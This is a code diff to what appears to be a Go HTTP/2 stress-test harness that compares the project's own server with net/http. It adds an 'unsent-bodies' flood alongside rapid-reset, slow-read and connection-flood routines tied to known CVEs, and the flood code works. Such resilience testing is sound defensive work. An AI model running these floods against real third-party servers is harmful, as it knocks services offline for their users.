@@ -82,6 +82,7 @@ var allClasses = []class{
 	{"rst-flood", "frames that make the server reset streams, responses never read, 20 000/s (CVE-2019-9514)", rstFlood},
 	{"stream-exhaustion", "every connection's streams held open (RouteChat, never ended), 150 connections", streamExhaustion},
 	{"slow-read", "large responses read through 1-byte windows, 100 streams on 20 connections (CVE-2019-9517, CVE-2019-9511)", slowRead},
+	{"unsent-bodies", "requests declaring 1 MiB bodies never sent, answered at once (404), 20 000 streams/s on 4 connections", unsentBodies},
 	{"body-dribble", "request bodies sent a byte a second, 100 streams on 20 connections", bodyDribble},
 	{"no-settings", "500 connections that send the preface and never SETTINGS", noSettings},
 	{"connection-flood", "2 000 connections a second that send nothing", connectionFlood},
@@ -352,10 +353,13 @@ func (a *attacker) paced(conns, perSecond int, read bool, setup func(fr *http2.F
 }
 
 // requestBlock is an HPACK block for a request to path, with enc's state.
-func requestBlock(enc *hpack.Encoder, buf *bytes.Buffer, method, path, contentType string) []byte {
+func requestBlock(enc *hpack.Encoder, buf *bytes.Buffer, method, path, contentType string, extra ...string) []byte {
 	buf.Reset()
 	for _, kv := range [][2]string{{":method", method}, {":scheme", "http"}, {":authority", "attack"}, {":path", path}, {"content-type", contentType}, {"te", "trailers"}} {
 		_ = enc.WriteField(hpack.HeaderField{Name: kv[0], Value: kv[1]})
+	}
+	for i := 0; i+1 < len(extra); i += 2 {
+		_ = enc.WriteField(hpack.HeaderField{Name: extra[i], Value: extra[i+1]})
 	}
 	return bytes.Clone(buf.Bytes())
 }
@@ -399,6 +403,23 @@ func openThen(a *attacker, read bool, then func(fr *http2.Framer, id uint32) err
 
 func rapidReset(a *attacker) {
 	openThen(a, true, func(fr *http2.Framer, id uint32) error { return fr.WriteRSTStream(id, http2.ErrCodeCancel) })
+}
+
+// unsentBodies opens streams that declare a body they never send, on a
+// path answered at once (no such procedure), so every response ends while
+// its body is still owed: internal/h2 keeps such a stream for its late
+// reset a while (at most MaxConcurrentStreams a connection), net/http's
+// server resets it at once.
+func unsentBodies(a *attacker) {
+	a.paced(4, 20000, true, nil, perConn(func(fr *http2.Framer, enc *hpack.Encoder, buf *bytes.Buffer, ids *streams, n int) error {
+		block := requestBlock(enc, buf, "POST", "/no.such.v1.Service/Method", "application/grpc", "content-length", "1048576")
+		for range n {
+			if err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: ids.id(), BlockFragment: block, EndHeaders: true}); err != nil {
+				return err
+			}
+		}
+		return nil
+	}))
 }
 
 func madeYouReset(a *attacker) {
